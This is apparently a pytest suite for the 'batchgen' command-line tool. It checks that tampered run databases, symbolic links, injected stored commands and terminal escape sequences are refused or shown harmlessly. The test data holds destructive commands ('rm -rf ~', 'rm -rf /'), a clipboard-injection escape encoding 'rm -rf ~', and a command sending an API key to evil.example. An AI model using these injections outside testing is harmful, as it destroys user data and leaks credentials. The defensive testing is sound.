"""A run folder of other hands: one message, and nothing sent, hung, lost or obeyed."""

from __future__ import annotations

import os
import random
import shlex
import shutil
import sqlite3
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest

from batchgen.sandbox import SandboxProcess
from tests.cli.command import KEY, Ended, Shop, batchgen

OBEYED = "\x1b\x07\x9b\x9d\x08\u202e"
OSC_52 = "\x1b]52;c;cm0gLXJmIH4=\x07"

Craft = Callable[[Path], None]


@pytest.fixture(scope="module")
def finished_shop(
    sandbox: SandboxProcess, tmp_path_factory: pytest.TempPathFactory
) -> Shop:
    """Return a shop in whose folder a run came to its end; it is only copied."""
    shop = Shop(sandbox, tmp_path_factory.mktemp("bought"))
    shop.catalogue(3)
    assert shop.run("m.csv", "--yes").code == 0
    return shop


@pytest.fixture
def shop(finished_shop: Shop, tmp_path: Path) -> Shop:
    shutil.copytree(finished_shop.folder, tmp_path, dirs_exist_ok=True)
    return Shop(finished_shop.sandbox, tmp_path)


def run_folder(shop: Shop) -> Path:
    return shop.folder / "out/m"


def sql(*statements: str) -> Craft:
    def craft(folder: Path) -> None:
        with closing(sqlite3.connect(folder / "run.db")) as ledger, ledger:
            for statement in statements:
                ledger.executescript(statement)

    return craft


def write(name: str, content: bytes) -> Craft:
    def craft(folder: Path) -> None:
        put_in_place(folder / name).write_bytes(content)

    return craft


def put_in_place(path: Path) -> Path:
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    path.unlink(missing_ok=True)
    return path


def foreign(*statements: str) -> Craft:
    def craft(folder: Path) -> None:
        put_in_place(folder / "run.db")
        sql(*statements)(folder)

    return craft


def untyped(table: str, change: str) -> Craft:
    """Change a table whose columns have lost their types, and give these back."""

    def craft(folder: Path) -> None:
        path = folder / "run.db"
        with closing(sqlite3.connect(path)) as ledger, ledger:
            query = "SELECT sql FROM sqlite_schema WHERE name = ?"
            (text,) = ledger.execute(query, (table,)).fetchone()
        loose = text.replace("STRICT, WITHOUT", "WITHOUT").replace(") STRICT", ")")
        loose = loose.replace(" INTEGER ", " ").replace(" TEXT ", " ")
        rename(path, table, loose)
        sql(change)(folder)
        rename(path, table, text)

    return craft


def rename(path: Path, table: str, text: str) -> None:
    with closing(sqlite3.connect(path)) as ledger, ledger:
        ledger.execute("PRAGMA writable_schema = ON")
        change = "UPDATE sqlite_schema SET sql = ? WHERE name = ?"
        ledger.execute(change, (text, table))


def break_pages(folder: Path) -> None:
    path = folder / "run.db"
    data = bytearray(path.read_bytes())
    for page in range(2 * 4096, len(data), 4096):
        data[page : page + 64] = b"\xff" * 64
    path.write_bytes(data)


def cut(folder: Path) -> None:
    path = folder / "run.db"
    path.write_bytes(path.read_bytes()[:9000])


def of_another_wal(folder: Path) -> None:
    other = folder / "other.db"
    with closing(sqlite3.connect(other)) as connection:
        connection.execute("PRAGMA journal_mode = WAL")
        connection.execute("CREATE TABLE elsewhere (a)")
        connection.commit()
        shutil.copy(folder / "other.db-wal", folder / "run.db-wal")


def pipe(name: str) -> Craft:
    return lambda folder: os.mkfifo(put_in_place(folder / name))


def device(folder: Path) -> None:
    put_in_place(folder / "run.db").symlink_to("/dev/zero")


def directory(folder: Path) -> None:
    put_in_place(folder / "run.db").mkdir()


REFUSED: dict[str, Craft] = {
    "text": write("run.db", b"hello\n" * 500),
    "jpeg": write("run.db", b"\xff\xd8\xff\xe0" + bytes(5000)),
    "other-program": foreign("CREATE TABLE places (id INTEGER, url TEXT)"),
    "other-program-like-ours": foreign(
        "CREATE TABLE meta (name TEXT PRIMARY KEY, value ANY)",
        "INSERT INTO meta VALUES ('source', 'x'); PRAGMA user_version = 8",
    ),
    "trigger": sql(
        "CREATE TRIGGER evil AFTER UPDATE ON meta BEGIN DELETE FROM attempts; END"
    ),
    "endless-view": sql(
        "DROP VIEW paid_rows",
        "CREATE VIEW paid_rows AS WITH RECURSIVE n(row_id) AS (SELECT 1 UNION ALL "
        "SELECT row_id + 1 FROM n) SELECT row_id FROM n",
    ),
    "generated-column": sql(
        "ALTER TABLE rows ADD COLUMN more INTEGER AS (row_id) VIRTUAL"
    ),
    "version-negative": sql("PRAGMA user_version = -5"),
    "version-huge": sql("PRAGMA user_version = 1000000000"),
    "version-zero": sql("PRAGMA user_version = 0"),
    "state": sql("UPDATE attempts SET state = 'bogus'"),
    "status": sql("UPDATE rows SET status = 'bogus'"),
    "size-negative": sql("UPDATE images SET size_bytes = -5"),
    "cost-huge": sql("UPDATE attempts SET cost = 9223372036854775807"),
    "time-huge": sql("UPDATE attempts SET sent_at = 9223372036854775807"),
    "name-leads-out": sql("UPDATE images SET name = '../../x.png'"),
    "name-absolute": sql("UPDATE images SET name = '/etc/x.png'"),
    "request-list": sql("UPDATE rows SET request = '[]'"),
    "request-types": sql("UPDATE rows SET request = '{\"prompt\":5}'"),
    "budget": sql("INSERT OR REPLACE INTO meta VALUES ('limits', '[1]')"),
    "generation": sql(
        "UPDATE meta SET value = 9223372036854775807 WHERE name = 'generation'"
    ),
    "no-rows": sql("PRAGMA foreign_keys = OFF; DELETE FROM rows"),
    "types-attempts": untyped("attempts", "UPDATE attempts SET sent_at = 'noon'"),
    "types-rows": untyped("rows", "UPDATE rows SET request = x'00ff', n = 'many'"),
    "types-images": untyped("images", "UPDATE images SET place = x'00'"),
    "broken-pages": break_pages,
    "cut": cut,
    "wal-of-another": of_another_wal,
    "device": device,
    "directory": directory,
    "pipe": pipe("run.db"),
    "pipe-as-zip": pipe("images.zip"),
}


@pytest.mark.parametrize("craft", REFUSED.values(), ids=REFUSED)
def test_a_folder_that_batchgen_did_not_leave_so_is_refused_in_one_message(
    shop: Shop, craft: Craft
) -> None:
    craft(run_folder(shop))
    sent = shop.sent

    stands = batchgen("status", "out/m", at=shop.folder)
    runs = shop.run("m.csv", "--yes", "--quiet")

    for ended in (stands, runs):
        assert ended.code == 1, ended
        assert_is_one_message(ended)
    assert shop.sent == sent


def assert_is_one_message(ended: Ended) -> None:
    assert len(ended.stderr.splitlines()) == 1, ended.stderr
    assert "fault of batchgen" not in ended.stderr
    assert "out/m" in ended.stderr
    assert not set(OBEYED) & set(ended.stdout + ended.stderr)


LINKED = ("images.zip", "run.log", "run.db-wal", "results.parquet", "kept", "run.db")


@pytest.mark.parametrize("name", LINKED)
def test_a_link_in_a_run_folder_is_never_followed(shop: Shop, name: str) -> None:
    victim = shop.folder / "victim"
    if name == "kept":
        victim.mkdir()
    else:
        victim.write_bytes(b"of somebody else")
    put_in_place(run_folder(shop) / name).symlink_to(victim)
    sent = shop.sent

    for ended in (
        shop.run("m.csv", "--yes", "--quiet"),
        batchgen("report", "out/m", "--html", at=shop.folder),
        batchgen("retry", "out/m", at=shop.folder),
    ):
        assert ended.code == 1, ended
        assert_is_one_message(ended)
        assert "symbolic link" in ended.stderr
    assert victim.is_dir() or victim.read_bytes() == b"of somebody else"
    assert shop.sent == sent


def test_an_output_is_not_written_through_a_link_of_its_temporary_name(
    shop: Shop,
) -> None:
    victim = shop.folder / "victim"
    victim.write_bytes(b"of somebody else")
    (shop.folder / "costs.csv.partial").symlink_to(victim)

    ended = batchgen("costs", "out/m", "--by", "id", "-o", "costs.csv", at=shop.folder)

    assert ended.code == 0, ended
    assert victim.read_bytes() == b"of somebody else"
    assert not (shop.folder / "costs.csv").is_symlink()


# -- what is shown


COMMANDS = {
    "of-another-program": f"rm -rf ~; echo {OSC_52}",
    "after-ours": f"batchgen run m.csv; rm -rf ~ {OSC_52}",
    "after-ours-plain": "batchgen run m.csv; rm -rf ~",
    "no-run": "batchgen retry out/m",
    "unpaired-quote": "batchgen run 'm.csv",
    "list-of-others": '["rm", "-rf", "/"]',
    "json-of-something-else": '{"batchgen": "run"}',
    "escape-in-a-word": f'["batchgen", "run", "m.csv", "{OSC_52}"]',
}


@pytest.mark.parametrize("stored", COMMANDS.values(), ids=COMMANDS)
def test_what_can_be_pasted_is_one_command_of_batchgen(shop: Shop, stored: str) -> None:
    leave_pending(run_folder(shop), stored)

    ended = batchgen("status", "out/m", at=shop.folder)
    retried = batchgen("retry", "out/m", "--status", "failed", at=shop.folder)

    assert (ended.code, retried.code) == (0, 0), (ended, retried)
    for out in (ended.stdout, retried.stdout):
        assert not set(OBEYED) & set(out)
        assert "rm" not in out.split()
        lines = [line.strip() for line in out.splitlines()]
        (command,) = [line for line in lines if line.startswith("batchgen run")]
        assert shlex.split(command)[:2] == ["batchgen", "run"]


def leave_pending(folder: Path, command: str) -> None:
    with closing(sqlite3.connect(folder / "run.db")) as ledger, ledger:
        ledger.execute("UPDATE meta SET value = ? WHERE name = 'command'", (command,))
        ledger.execute("UPDATE rows SET status = 'failed' WHERE row_id = 1")
        ledger.execute("UPDATE rows SET status = 'pending' WHERE row_id > 1")


def test_a_command_that_sends_a_key_elsewhere_says_so(shop: Shop) -> None:
    stored = (
        '["batchgen", "run", "m.csv", "--provider", "gemini", '
        '"--base-url", "https://evil.example/v1"]'
    )
    leave_pending(run_folder(shop), stored)

    ended = batchgen("status", "out/m", at=shop.folder)

    assert "sends the key for gemini to https://evil.example/v1" in ended.stdout


def test_a_command_that_was_typed_is_shown_as_it_was_typed(shop: Shop) -> None:
    template = '{{ prompt }}, it\'s "new"; $(date)'
    assert shop.run("m.csv", "--prompt", template, "--keep").code == 0
    with closing(sqlite3.connect(run_folder(shop) / "run.db")) as ledger, ledger:
        ledger.execute("UPDATE rows SET status = 'pending'")

    ended = batchgen("status", "out/m", at=shop.folder)

    (command,) = [line for line in ended.stdout.splitlines() if "--prompt" in line]
    words = shlex.split(command)
    assert words[words.index("--prompt") + 1] == template


def test_texts_of_other_hands_are_shown_and_not_obeyed(shop: Shop) -> None:
    message = f"all is well {OSC_52}\x1b[2Jumlauts: \u00e4\u00f6\u00fc \u202e"
    with closing(sqlite3.connect(run_folder(shop) / "run.db")) as ledger, ledger:
        ledger.execute(
            "UPDATE rows SET status = 'failed', error = 'request_invalid', message = ?",
            (message,),
        )
    for words in (
        ("status", "out/m"),
        ("status", "out/m", "--json"),
        ("report", "out/m"),
        ("retry", "out/m", "--status", "failed"),
    ):
        ended = batchgen(*words, at=shop.folder)
        assert ended.code == 0, ended
        assert not set(OBEYED) & set(ended.stdout + ended.stderr), words


def test_a_table_of_other_hands_is_shown_and_not_obeyed(tmp_path: Path) -> None:
    head = f"id,prompt,na{OSC_52}me"
    lines = [head, f"a{OSC_52},cup {OSC_52}\x1b[2J,x\u202ey", "a,b,c", "a,d,e", ""]
    (tmp_path / "m.csv").write_text("\n".join(lines), encoding="utf-8")

    for words in (
        ("check", "m.csv", "--provider", "aimlapi"),
        ("check", "m.csv", "--provider", "aimlapi", "--prompt", f"{{{{ x{OSC_52} }}}}"),
        ("curl", "m.csv", "--provider", "aimlapi", "--row", "0"),
        ("run", f"m{OSC_52}.csv", "--provider", "aimlapi"),
        ("status", f"out/{OSC_52}"),
        ("run", "m.csv", "--provider", OSC_52),
        (f"x{OSC_52}",),
    ):
        ended = batchgen(*words, at=tmp_path, key=KEY)
        assert not set(OBEYED) & set(ended.stdout + ended.stderr), words


# -- bits that flipped


@pytest.mark.parametrize("seed", range(5))
def test_a_ledger_with_flipped_bits_ends_in_words(shop: Shop, seed: int) -> None:
    flip(run_folder(shop) / "run.db", seed)
    sent = shop.sent

    for words in (("status", "out/m"), ("report", "out/m")):
        ended = batchgen(*words, at=shop.folder)
        assert ended.code in (0, 1), ended
        assert ended.code == 0 or len(ended.stderr.splitlines()) == 1, ended
    assert shop.sent == sent


@pytest.mark.parametrize("seed", range(5))
def test_a_table_with_flipped_bits_ends_in_words(shop: Shop, seed: int) -> None:
    flip(run_folder(shop) / "results.parquet", seed)

    ended = batchgen("costs", "out/m", "--by", "id", at=shop.folder)

    assert ended.code in (0, 1, 2), ended
    assert ended.code == 0 or len(ended.stderr.splitlines()) == 1, ended


def flip(path: Path, seed: int) -> None:
    rng = random.Random(seed)
    data = bytearray(path.read_bytes())
    for _ in range(rng.choice([1, 5, 40])):
        data[rng.randrange(len(data))] ^= 1 << rng.randrange(5)
    path.write_bytes(data)
